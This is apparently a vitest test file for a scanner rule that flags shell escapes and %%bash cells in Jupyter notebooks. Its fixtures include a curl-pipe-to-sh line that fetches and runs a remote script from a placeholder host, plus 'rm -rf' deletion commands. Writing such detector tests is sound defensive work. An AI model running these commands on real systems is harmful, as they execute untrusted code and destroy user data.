import { describe, expect, it } from "vitest";
import { MemorySource } from "../../core/byte-source.js";
import { scanSource } from "../../engine/scan.js";
import { FORMAT_HANDLERS } from "../../formats/index.js";
import { notebookHandler } from "../../formats/notebook/index.js";
import { RULES } from "../index.js";
import { NOTEBOOK_RULES } from "./index.js";

const nb = (...sources: string[]) =>
  JSON.stringify({ cells: sources.map((source, i) => ({ cell_type: "code", execution_count: null, id: `c${i}`, metadata: {}, outputs: [], source })), metadata: {}, nbformat: 4, nbformat_minor: 5 });
const scan = (text: string) => scanSource(new MemorySource(new TextEncoder().encode(text)), { path: "n.ipynb", handlers: [...FORMAT_HANDLERS, notebookHandler], rules: [...RULES, ...NOTEBOOK_RULES] });

describe("NB001 shell command", () => {
  it("flags shell escapes and %%bash cells as low", async () => {
    const report = await scan(nb("!curl -s https://x.invalid/i.sh | sh", "%%bash\nrm -rf ~/.cache"));
    const hits = report.findings.filter((f) => f.ruleId === "NB001");
    expect(hits.map((f) => f.evidence)).toEqual(["!curl -s https://x.invalid/i.sh | sh", "%%bash"]);
    expect(hits.every((f) => f.severity === "low")).toBe(true);
    expect(report.verdict).toBe("clean");
  });
  it("does not flag Python comparisons, comments or strings", async () => {
    const report = await scan(nb("if a != b:\n    print('!ls')\n# !rm -rf /"));
    expect(report.findings.map((f) => f.ruleId)).not.toContain("NB001");
  });
});
